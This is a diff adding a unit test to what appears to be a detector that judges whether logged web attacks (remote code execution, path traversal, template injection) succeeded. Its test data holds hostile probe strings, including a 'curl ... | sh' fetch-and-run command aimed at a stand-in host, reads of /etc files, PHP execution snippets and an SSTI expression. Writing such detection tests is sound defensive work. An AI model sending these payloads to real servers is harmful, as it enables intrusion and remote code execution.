@@ -224,6 +224,13 @@ def test_commands_whose_outputs_all_differ_worked() -> None:
     assert of_attacks(rows) == ["worked"] * 3
 
 
+def test_searches_for_code_are_answered_in_many_ways_and_none_of_them_worked() -> None:
+    words = ["curl+-s+a.example+|+sh", "phpinfo()", "cat+/etc/hosts", "exec()", "import+os", "<?php+echo"]
+    rows = [attack(f"/search?q={word}", 200, 4000 + 900 * n, kind=Attack.RCE) for n, word in enumerate(words)]
+    files = [attack(f"/search?q=/etc/{word}.conf", 200, 9000, kind=Attack.TRAVERSAL) for word in "ab"]
+    assert set(of_attacks([*MISSING, *rows, *files])) == {"unknown"}
+
+
 def test_an_expression_that_changes_the_page_worked() -> None:
     sizes = [7000, 7010, 6995, 7004, 21_000]
     rows = [attack(f"/hello?name={{{{7*{n}}}}}", 200, s, Attack.SSTI) for n, s in enumerate(sizes)]
